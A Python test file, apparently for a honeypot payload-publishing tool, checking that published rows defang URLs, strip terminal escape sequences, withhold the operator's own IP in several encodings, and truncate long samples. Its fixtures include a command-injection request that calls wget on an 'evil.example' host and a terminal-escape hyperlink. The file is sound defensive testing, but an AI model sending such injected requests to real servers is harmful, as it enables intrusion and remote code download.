"""Groups as they are told: nothing in them is a link, a formula, a command to a terminal, or an address of ours."""

from __future__ import annotations

import json

import pytest
from tests.payloads.families import AGENTS

from teiten.payloads import asked
from teiten.payloads.asked import Group, Payload
from teiten.payloads.drawn import Download, Drawn
from teiten.publish import leaks, said

OWN = frozenset({bytes([198, 51, 100, 23])})


def group(data: bytes, **more: object) -> Group:
    import datetime as dt

    at = dt.datetime(2026, 11, 1, tzinfo=dt.UTC)
    one = Payload("0" * 64, data, 1, 1, ["80/tcp"], at, at, size=len(data))
    made = asked.grouped([one])[0]
    for name, value in more.items():
        setattr(made, name, value)
    return made


@pytest.mark.parametrize("agent", AGENTS)
def test_texts_are_harmless(agent: bytes) -> None:
    row = said.row(group(b"GET /x;wget+http://evil.example/a HTTP/1.1\r\nUser-Agent: " + agent + b"\x1b]8;;http://a\x07"), OWN)
    told = json.dumps({name: row[name] for name in ("sample", "downloads", "commands", "credentials")})
    assert "http://" not in told and "\\u001b" not in told and "hxxp://evil[.]example/a" in told


@pytest.mark.parametrize(
    "spelt", ["%31%39%38.51.100.23", "198&#46;51&#46;100&#46;23", "http://198.51.100.23/", "23.100.51.198", "3325256727"]
)
def test_what_still_spells_an_own_address_is_withheld(spelt: str) -> None:
    """What `own.covered` did not see (percent signs, entities) is found when it is told."""
    made = group(f"GET /{spelt} HTTP/1.1\r\n\r\n".encode())
    made.drawn = Drawn((Download(f"http://{spelt}/", "http"),), (f"wget {spelt}",), ((spelt, spelt),))
    row = said.row(made, OWN)
    assert leaks.find({"": json.dumps(row, default=str).replace("[.]", ".").encode()}, OWN) is None
    assert said.WITHHELD in row["sample"]


def test_beyond_what_is_told_is_counted() -> None:
    made = group(b"A" * 5000)
    made.members[0].size = 10_000_000
    row = said.row(made, OWN)
    assert row["sample"].endswith("... (+9,999,500)") and len(row["sample_hex"]) == 8192
    assert said.hexadecimal(made.members[0], OWN)[-1] == "... (+9,998,976)"


def test_sparklines() -> None:
    assert said.sparkline([0, 1, 4, 8, None]) == "·▁▄█ "
    assert said.sparkline([]) == ""
    assert said.sparkline([0, 0]) == "··"
